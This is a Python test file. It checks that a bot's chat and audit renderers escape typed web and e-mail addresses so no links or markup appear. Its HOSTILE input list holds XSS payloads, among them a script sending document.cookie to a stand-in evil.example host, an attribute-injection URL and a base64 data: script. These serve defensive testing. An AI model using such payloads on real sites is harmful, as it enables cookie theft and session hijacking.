"""Web and e-mail addresses people type stay text: the chat's and the audit's escaping leaves no
automatic link (GFM's ``://``, ``www.`` and e-mail), and the text reads exactly as typed."""

from __future__ import annotations

import html
import re
import time

import pytest

from bot.audit.render.md import esc
from bot.links import backslashed, reference, unlinked
from bot.web.render import text

# What a GFM renderer (marked in the page, GitHub for a .md file) makes a link of, unescaped.
AUTOLINK = re.compile(r"(?i)(?:https?|ftp)://|www\.|[\w.+-]@[\w-]")

HOSTILE = [
    "Our shop: https://example.com/shop?x=1&y=2 and www.example.org/path",
    "HTTPS://EXAMPLE.COM WWW.EXAMPLE.COM ftp://files.example.com",
    "mail me: owner+ads@example.co.uk, or @ourshop on Instagram",
    "javascript:alert(1) [click](javascript:alert(1)) <javascript:alert(1)>",
    '"><a href="https://evil.example" onclick="x()">win</a>',
    "<script>location='https://evil.example/?c='+document.cookie</script>",
    "![track](http://tracker.example/p.gif) <http://evil.example> [x](https://evil.example 'title')",
    'https://example.com/"onmouseover="alert(1)',
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "https://" + "a" * 20_000 + ".example/" + "b/" * 5_000,
]


@pytest.mark.parametrize("typed", HOSTILE)
def test_the_chat_text_has_no_link_no_markup_and_reads_as_typed(typed: str) -> None:
    shown = text(typed)
    assert not AUTOLINK.search(shown), shown[:120]
    assert "<" not in shown and ">" not in shown and "[" not in shown and "](" not in shown
    assert html.unescape(shown) == typed  # what the reader sees is what the owner typed


@pytest.mark.parametrize("typed", HOSTILE)
def test_the_audit_markdown_has_no_link_and_reads_as_typed(typed: str) -> None:
    shown = esc(typed)
    assert not AUTOLINK.search(shown), shown[:120]
    assert "<" not in shown and ">" not in shown
    unescaped = html.unescape(re.sub(r"\\(.)", r"\1", shown))  # a Markdown viewer's reading of it
    assert unescaped == " ".join(typed.split())


def test_only_the_character_that_starts_a_link_changes() -> None:
    assert unlinked("see https://a.example/x", reference) == "see https&#58;//a.example/x"
    assert unlinked("www.a.example and WWW.B.EXAMPLE", reference) == "www&#46;a.example and WWW&#46;B.EXAMPLE"
    assert unlinked("me@a.example", backslashed) == "me\\@a.example"
    unchanged = "@ourshop on Instagram, 3:30 pm, ratio 2:1, 10.5 % of www, e-mail us"
    assert unlinked(unchanged, reference) == unchanged


def test_a_very_long_address_is_handled_in_linear_time() -> None:
    long = ("https://" + "a" * 200_000 + " www." + "b" * 200_000 + " x@" + "c" * 200_000)
    started = time.perf_counter()
    shown = text(long)
    assert time.perf_counter() - started < 2.0
    assert not AUTOLINK.search(shown) and html.unescape(shown) == long
